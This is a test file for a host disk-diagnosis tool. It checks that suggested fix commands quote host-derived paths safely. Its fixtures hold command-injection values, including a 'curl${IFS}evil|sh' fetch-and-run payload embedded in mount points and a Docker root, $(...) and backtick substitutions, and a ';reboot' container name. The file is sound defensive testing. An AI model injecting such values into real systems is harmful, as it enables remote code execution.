import { describe, expect, it } from 'vitest';
import { analyze } from '../../src/analysis/index.js';
import { bundleFromRecord, type Finding } from '../../src/domain/index.js';
import { ID, inspectJson } from './rules/docker/rule-harness.js';

/**
 * Paths in df, `docker info` and `du` output come from the host. A fix command that pastes one
 * unquoted turns a hostile mount point or data root into a command the reader copies and runs.
 */
const PAYLOAD = 'curl${IFS}evil|sh';
const HOSTILE_MOUNT = `/x;${PAYLOAD};#`;
const HOSTILE_ROOT = `/srv/d$(${PAYLOAD})`;
const HOSTILE_SUBST_MOUNT = '/data/`id`';

function hostileBundle(): Record<string, string> {
  const big = ID('7');
  const df = [
    'Filesystem     Type 1024-blocks     Used Available Capacity Mounted on',
    `/dev/sdc1      ext4    20000000 19900000    100000      99% ${HOSTILE_MOUNT}`,
    `/dev/sdd1      ext4    20000000 17500000   2500000      88% ${HOSTILE_SUBST_MOUNT}`,
    `/dev/sdb1      xfs    100000000 99000000   1000000      99% ${HOSTILE_ROOT}`,
  ].join('\n');
  const dfInodes = [
    'Filesystem     Type  Inodes  IUsed IFree IUse% Mounted on',
    `/dev/sdc1      ext4 1310720 1310700   20  100% ${HOSTILE_MOUNT}`,
  ].join('\n');
  return {
    df,
    df_inodes: dfInodes,
    docker_info: `Docker Root Dir: ${HOSTILE_ROOT}\n`,
    docker_log_sizes: `${90e9}\t${HOSTILE_ROOT}/containers/${big}/${big}-json.log\n`,
    docker_inspect: JSON.stringify([inspectJson({ id: big, name: 'web;reboot', path: 'node', args: ['server.js'] })]),
  };
}

/** What the shell would see outside single quotes: quoted spans are inert. */
function unquotedParts(command: string): string {
  return command.replace(/'[^']*'/g, "''");
}

function fixCommands(findings: readonly Finding[]): string[] {
  return findings.flatMap((f) => f.fixes.flatMap((fix) => fix.commands ?? []));
}

describe('fix commands built from host-derived values', () => {
  const report = analyze(bundleFromRecord(hostileBundle(), { host: 'test-host' }), { now: new Date('2026-01-01T00:00:00Z') });
  const findings = report.findings;
  const commands = fixCommands(findings);

  it('suggest commands for the hostile mount points and data root (the test would prove nothing otherwise)', () => {
    expect(findings.map((f) => f.subject)).toEqual(expect.arrayContaining([HOSTILE_MOUNT, HOSTILE_SUBST_MOUNT]));
    expect(commands.some((c) => c.includes(HOSTILE_MOUNT.slice(1, 2)) && c.includes('evil'))).toBe(true);
    expect(commands.some((c) => c.includes('-json.log'))).toBe(true);
  });

  it.each(['evil', '`id`', 'reboot', '$(curl', ';#'])('never leave %s outside single quotes', (needle) => {
    const bare = commands.filter((c) => unquotedParts(c).includes(needle));
    expect(bare).toEqual([]);
  });

  it('quote each value as one word the shell gives back unchanged', () => {
    const du = commands.find((c) => c.startsWith('du ') && c.includes('evil'));
    expect(du).toBe(`du -xh --max-depth=2 '${HOSTILE_MOUNT}' | sort -h | tail -20`);
    const truncate = commands.find((c) => c.startsWith('truncate '));
    expect(truncate).toBe(`truncate -s 0 -- '${HOSTILE_ROOT}/containers/${ID('7')}/${ID('7')}-json.log'`);
  });
});
